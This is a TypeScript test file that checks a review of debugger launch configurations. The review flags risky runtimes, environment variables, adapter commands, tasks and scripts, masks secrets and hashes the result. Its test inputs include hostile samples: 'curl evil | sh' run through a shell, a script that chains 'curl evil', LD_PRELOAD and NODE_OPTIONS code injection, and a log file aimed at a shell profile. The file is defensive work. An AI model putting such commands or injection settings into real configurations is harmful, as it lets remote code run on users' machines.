import { describe, expect, test } from 'vitest';
import type { ReviewedCommand } from '../../../../shared/configurations.ts';
import type { LaunchConfiguration } from '../../../../shared/launch.ts';
import type { LaunchPreview } from '../../base/debugger.ts';
import { reviewOf, type ReviewSubject } from './review.ts';

const program: LaunchConfiguration = { target: 'program', name: 'Serve', language: 'javascript', program: '/shop/main.js', cwd: '/shop', args: [], env: {}, stopOnEntry: false, console: 'internalConsole', runtimeExecutable: '/usr/bin/node' };

interface Wishes {
  readonly configuration?: Partial<LaunchConfiguration>;
  readonly command?: readonly string[];
  readonly env?: Readonly<Record<string, string>>;
  readonly scripts?: Readonly<Record<string, string>>;
  readonly value?: Readonly<Record<string, unknown>>;
  readonly tasks?: readonly ReviewedCommand[];
  readonly before?: Readonly<Record<string, string>>;
  readonly purpose?: 'program' | 'attach';
}

function subject({ configuration, command = ['/usr/bin/node', '/shop/main.js'], env = {}, scripts = {}, value = {}, tasks = [], before = { PATH: '/usr/bin' }, purpose = 'program' }: Wishes = {}): ReviewSubject {
  const whole = { ...program, ...configuration } as LaunchConfiguration;
  const preview: LaunchPreview = {
    configuration: whole,
    commands: [{ purpose, command }],
    cwd: whole.cwd,
    environment: { before, after: { ...before, ...env } },
    adapter: { label: 'js-debug', path: '/opt/js-debug.js' },
    scripts,
  };
  return { name: 'Serve', preview, value: { name: 'Serve', type: 'node', request: 'launch', ...value }, tasks, folder: '/shop' };
}
const review = (wishes?: Wishes) => reviewOf(subject(wishes));
const dangers = (wishes?: Wishes) => review(wishes).dangers.map(({ key, value }) => `${key}: ${value}`);

test('an ordinary program is shown whole, and nothing of it is flagged', () => {
  expect(review({ env: { PORT: '3000' } })).toMatchObject({
    name: 'Serve',
    commands: [{ purpose: 'program', command: ['/usr/bin/node', '/shop/main.js'], cwd: '/shop', environment: [{ name: 'PORT', after: '3000' }] }],
    adapter: { label: 'js-debug', path: '/opt/js-debug.js' },
    dangers: [],
  });
});

describe('what deserves a second look', () => {
  test.each<[string, Wishes, string]>([
    ['a runtime of the configuration', { configuration: { runtimeExecutable: '/opt/other/node' }, value: { runtimeExecutable: '/opt/other/node' } }, 'runtimeExecutable: /opt/other/node'],
    ['a runtime in the folder', { configuration: { runtimeExecutable: '/shop/node' }, value: { runtimeExecutable: './node' } }, 'runtimeExecutable: /shop/node'],
    ['an interpreter of the configuration', { configuration: { runtimeExecutable: '/shop/python' }, value: { python: '${workspaceFolder}/python' } }, 'python: /shop/python'],
    ['an interpreter that was found in the folder', { configuration: { runtimeExecutable: '/shop/.venv/bin/python' } }, 'runtime: /shop/.venv/bin/python'],
    ['a program outside', { configuration: { program: '/tmp/evil.js' } }, 'program: /tmp/evil.js'],
    ['a folder outside', { configuration: { cwd: '/etc' } }, 'cwd: /etc'],
    ['NODE_OPTIONS', { env: { NODE_OPTIONS: '--require ./x.js' } }, 'env.NODE_OPTIONS: --require ./x.js'],
    ['LD_PRELOAD', { env: { LD_PRELOAD: './x.so' } }, 'env.LD_PRELOAD: ./x.so'],
    ['DYLD_INSERT_LIBRARIES', { env: { DYLD_INSERT_LIBRARIES: 'x' } }, 'env.DYLD_INSERT_LIBRARIES: x'],
    ['PYTHONSTARTUP', { env: { PYTHONSTARTUP: 'x.py' } }, 'env.PYTHONSTARTUP: x.py'],
    ['PATH', { env: { PATH: '/shop/bin:/usr/bin' } }, 'env.PATH: /shop/bin:/usr/bin'],
    ['a shell', { command: ['/bin/sh', '-c', 'curl evil | sh'] }, 'command: /bin/sh'],
    ['a shell among the arguments', { command: ['/usr/bin/env', 'node', 'x.js', 'bash'] }, 'args: bash'],
    ['a switch that loads code', { command: ['/usr/bin/node', '--require=./x.js', '/shop/main.js'] }, 'args: --require=./x.js'],
    ['commands of a debugger', { configuration: { adapterArguments: { initCommands: ['platform shell id'] } } as never }, 'initCommands: platform shell id'],
    ['commands before the run', { configuration: { adapterArguments: { preRunCommands: ['script import os', 'x'] } } as never }, 'preRunCommands: script import os\nx'],
    ['flags of delve', { configuration: { adapterArguments: { dlvFlags: ['--init=x'] } } as never }, 'dlvFlags: --init=x'],
    ['what only the adapter understands', { configuration: { adapterArguments: { somethingNew: { deep: true } } } as never }, 'somethingNew: {\n  "deep": true\n}'],
    ['code that shows values', { configuration: { adapterArguments: { customDescriptionGenerator: 'function () { steal(this); }' } } as never }, 'customDescriptionGenerator: function () { steal(this); }'],
    ['a file that a log is written to', { configuration: { adapterArguments: { trace: { logFile: '/home/ada/.profile' } } } as never }, 'trace: {\n  "logFile": "/home/ada/.profile"\n}'],
    ['a task before', { value: { preLaunchTask: 'build' } }, 'preLaunchTask: build'],
    ['a task afterwards', { value: { postDebugTask: 'clean' } }, 'postDebugTask: clean'],
    ['a file of variables', { value: { envFile: '/shop/.env' } }, 'envFile: /shop/.env'],
    ['an action of a server', { value: { serverReadyAction: { action: 'openExternally' } } }, 'serverReadyAction: {\n  "action": "openExternally"\n}'],
    ['the text of a script', { scripts: { serve: 'node main.js & curl evil' } }, 'scripts.serve: node main.js & curl evil'],
  ])('%s', (_, wishes, expected) => {
    expect(dangers(wishes)).toContain(expected);
    expect(review(wishes).hash).not.toBe(review().hash);
    for (const { reason } of review(wishes).dangers) expect(reason).toMatch(/\.$/);
  });

  test('what changes nothing about what runs is not', () => {
    const adapterArguments = { skipFiles: ['<node_internals>/**'], sourceMaps: true, outFiles: ['dist/**'], justMyCode: false, sourceMap: [['/a', '/b']] };
    expect(dangers({ configuration: { adapterArguments } as never, env: { PORT: '1', DEBUG: '*' } })).toEqual([]);
  });
});

test('what was typed where nobody is to read it is hidden wherever it is, and is no change', () => {
  const hiding = (secret: string) => reviewOf({ ...subject({ command: ['/usr/bin/node', '/shop/main.js', secret, `--dsn=ada:${secret}@db`], env: { NODE_OPTIONS: `--title=${secret}`, LD_X: secret } }), secrets: [secret] });
  expect(JSON.stringify(hiding('hunter2'))).not.toContain('hunter2');
  expect(hiding('hunter2').commands[0]?.command).toEqual(['/usr/bin/node', '/shop/main.js', '••••••', '--dsn=ada:••••••@db']);
  expect(hiding('hunter2').hash).toBe(hiding('another one').hash);
  // So short a one would hide what it is not.
  expect(hiding('e').commands[0]?.command).toEqual(['/usr/bin/node', '/shop/main.js', '••••••', '--dsn=ada:e@db']);
  expect(hiding('program').commands[0]?.purpose).toBe('program');
});

describe('the hash', () => {
  const hash = (wishes?: Wishes) => review(wishes).hash;
  const task = (command: readonly string[], purpose: ReviewedCommand['purpose'] = 'preLaunchTask'): ReviewedCommand => ({ purpose, command, cwd: '/shop', environment: [] });

  test('is the same for the same thing', () => {
    expect(hash({ env: { A: '1', B: '2' } })).toBe(hash({ env: { B: '2', A: '1' } }));
  });
  test.each<[string, Wishes]>([
    ['a word of the command', { command: ['/usr/bin/node', '/shop/main.js', '--force'] }],
    ['where a word begins', { command: ['/usr/bin/node /shop/main.js'] }],
    ['a variable', { env: { A: '1' } }],
    ['a variable that is taken away', { before: { PATH: '/usr/bin', GONE: '1' }, env: { GONE: undefined as never } }],
    ['the folder', { configuration: { cwd: '/shop/a' } }],
    ['a task', { tasks: [task(['make'])] }],
  ])('changes with %s', (_, wishes) => expect(hash(wishes)).not.toBe(hash()));
  test('changes when a task runs at another time', () => {
    expect(hash({ tasks: [task(['make'])] })).not.toBe(hash({ tasks: [task(['make'], 'postDebugTask')] }));
  });
  test("does not change with the person's own environment, nor with the process that they pick", () => {
    expect(hash({ before: { PATH: '/usr/bin', HOME: '/home/ada' }, env: { PORT: '1' } })).toBe(hash({ before: { PATH: '/usr/bin', HOME: '/home/bob' }, env: { PORT: '1' } }));
    expect(hash({ purpose: 'attach', command: ['process 17'] })).toBe(hash({ purpose: 'attach', command: ['process 4711'] }));
    expect(hash({ purpose: 'attach', command: ['127.0.0.1:9229'] })).not.toBe(hash({ purpose: 'attach', command: ['evil.example:9229'] }));
  });
});
